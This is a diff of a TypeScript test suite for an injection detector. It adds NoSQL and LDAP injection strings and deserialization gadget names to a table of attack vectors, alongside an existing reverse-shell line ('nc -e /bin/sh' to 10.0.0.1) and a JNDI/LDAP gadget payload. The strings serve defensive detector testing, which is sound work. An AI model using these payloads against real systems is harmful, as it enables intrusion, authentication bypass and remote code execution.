@@ -34,7 +34,7 @@ const VECTORS: Record<string, readonly string[]> = {
     'or',
     'union select',
   ],
-  nosqli: ['{"$gt": ""}', '{"$where": "sleep(100)"}', '[$ne]=1', "'; return true; var x='", '{"$regex": ".*"}', '$ne', 'true, $where: \'1 == 1\''],
+  nosqli: ['this.a == 1', 'this.password.match(/.*/)', "this.x == 'a' || 'b'", 'this.constructor', '{"$gt": ""}', '{"$where": "sleep(100)"}', '[$ne]=1', "'; return true; var x='", '{"$regex": ".*"}', '$ne', 'true, $where: \'1 == 1\''],
   shell: [
     '; id',
     '| nc -e /bin/sh 10.0.0.1 4444',
@@ -115,6 +115,28 @@ const VECTORS: Record<string, readonly string[]> = {
     'globalThis',
   ],
   'prototype-pollution': ['__proto__[isAdmin]=true', 'constructor.prototype.isAdmin', '{"__proto__":{"x":1}}', '__proto__', 'constructor', 'prototype'],
+  // Each rule's own character (needsAlso): `=` alone for a breakout into a filter item, `&`, `|`,
+  // `!` for groups, `*`, NUL, `\`.
+  ldap: [
+    'admin)(uid=*',
+    ')(uid=admin',
+    'x)(cn=x',
+    'x) (mail=a@b.c',
+    'x)(cn:dn:=x',
+    'x)(age>=1',
+    '*)(|(objectClass=*',
+    '(|(uid=a)(uid=b))',
+    '(!(cn=x))',
+    '(&)',
+    '*()|&',
+    'admin)\u0000',
+    'admin)\x00',
+    'admin*)',
+    'admin*',
+    '*))',
+    'x\\29\\28uid=x',
+    'x\\29\\28|\\28cn=x',
+  ],
   deserialization: [
     '_$$ND_FUNC$$_function(){return 1}()',
     'rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA==',
@@ -126,7 +148,25 @@ const VECTORS: Record<string, readonly string[]> = {
     'ysoserial',
     'rO0AB',
     'aced0005',
-    // Markers that only a bigram shows (no `.`, `<` or non-ASCII character to let them through).
+    // Gadget type names, which reach the detector by a pair of their prefix (a `.` alone no longer
+    // does): prefixes whose only dot ends them, bare and as a Jackson wrapper, .NET names, a
+    // leading blank, a name ending in `.`.
+    'bsh.',
+    'groovy.',
+    'javassist.',
+    ' groovy.',
+    'bsh.Interpreter',
+    "['bsh.', {}]",
+    '["groovy.", {"x": 1}]',
+    '["com.sun.rowset.JdbcRowSetImpl", {"dataSourceName": "ldap://x"}]',
+    'System.Windows.Data.ObjectDataProvider',
+    'System.Windows.Data.ObjectDataProvider, PresentationFramework',
+    'System.Runtime.Remoting.',
+    'Microsoft.Exchange.',
+    'com.mchange.v2.c3p0.',
+    'java.util.PriorityQueue',
+    'org.apache.commons.collections.functors.InvokerTransformer',
+    // Markers that only a bigram shows (no `<` or non-ASCII character to let them through).
     'id-rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA',
     'x-KztAAUc3IAEWphdmE',
     'x-Cs7QAFc3IAEWphdmE',
@@ -296,7 +336,7 @@ t.test('needsAlso: every value the gate skips is one the detector answers undefi
   const gated = DETECTORS.filter((d) => d.value !== undefined && d.needsAlso !== undefined);
   t.ok(gated.length > 0, 'some detector has needsAlso');
   const next = rng(0x9a7e);
-  const words = ['cat', 'id', 'whoami', 'ls', 'rm', 'sh', 'bash', 'nc', 'curl', 'wget', 'ping', 'cmd', 'powershell', 'etc', 'passwd', 'bin', 'usr', 'tmp', 'dev', 'tcp', 'IFS', 'python', 'perl', 'x', '1', '0', 'SKU', '1000', 'C', 'Windows', 'win', 'ini', 'exe', 'if', 'for', 'do', 'sudo', 'env', 'exec', 'eval'];
+  const words = ['this', 'sleep', 'return', 'true', 'where', 'ne', 'gt', 'cn', 'uid', 'admin', 'objectClass', 'dc', 'cat', 'id', 'whoami', 'ls', 'rm', 'sh', 'bash', 'nc', 'curl', 'wget', 'ping', 'cmd', 'powershell', 'etc', 'passwd', 'bin', 'usr', 'tmp', 'dev', 'tcp', 'IFS', 'python', 'perl', 'x', '1', '0', 'SKU', '1000', 'C', 'Windows', 'win', 'ini', 'exe', 'if', 'for', 'do', 'sudo', 'env', 'exec', 'eval'];
   const all: string[] = [];
   for (let c = 0; c < 0x3100; c++) {
     if (c >= 0xd800 && c < 0xe000) continue;
@@ -305,7 +345,7 @@ t.test('needsAlso: every value the gate skips is one the detector answers undefi
   for (const d of gated) {
     const alphabet = all.filter((ch) => (charMask(ch) & d.needsAlso!) === 0);
     const seps = alphabet.filter((ch) => !/[A-Za-z0-9]/.test(ch));
-    t.ok(!alphabet.includes(' ') && !alphabet.includes('+') && !alphabet.includes('\t'), `${d.class}: blanks are not in the skipped alphabet`);
+    if (d.class === 'shell') t.ok(!alphabet.includes(' ') && !alphabet.includes('+') && !alphabet.includes('\t'), `${d.class}: blanks are not in the skipped alphabet`);
     const violations: string[] = [];
     let checked = 0;
     const tryOne = (s: string): void => {
@@ -329,7 +369,7 @@ t.test('needsAlso: every value the gate skips is one the detector answers undefi
       tryOne(`${s}/bin/sh`);
       tryOne(`/${s}`);
     }
-    for (const s of ['SKU-1000', '2026-11-29T10:00:00Z', 'a/b/c.json', 'https://example.com/x/y', '/bin/sh', '/usr/bin/id', 'id', 'whoami-x', 'cat/etc/passwd', 'x'.repeat(50) + '/bin/sh', 'cat\u00a0/etc/passwd', 'cat\u2028id', 'cat\u0000id', 'C:/Windows/System32/cmd.exe', 'rm\u000b-rf\u000b/']) tryOne(s);
+    for (const s of ['+1 (555) 010-0000', '(optional)', 'x)(cn', ')(uid', '((((', '))))', 'a) (b', 'uid)(|(cn', 'cn:dn:(x)', 'SKU-1000', '2026-11-29T10:00:00Z', 'a/b/c.json', 'https://example.com/x/y', '/bin/sh', '/usr/bin/id', 'id', 'whoami-x', 'cat/etc/passwd', 'x'.repeat(50) + '/bin/sh', 'cat\u00a0/etc/passwd', 'cat\u2028id', 'cat\u0000id', 'C:/Windows/System32/cmd.exe', 'rm\u000b-rf\u000b/']) tryOne(s);
     t.ok(checked > 10000, `${d.class}: ${checked} skipped strings checked`);
     t.same(violations, [], `${d.class}: no finding on a string its needsAlso skips`);
   }
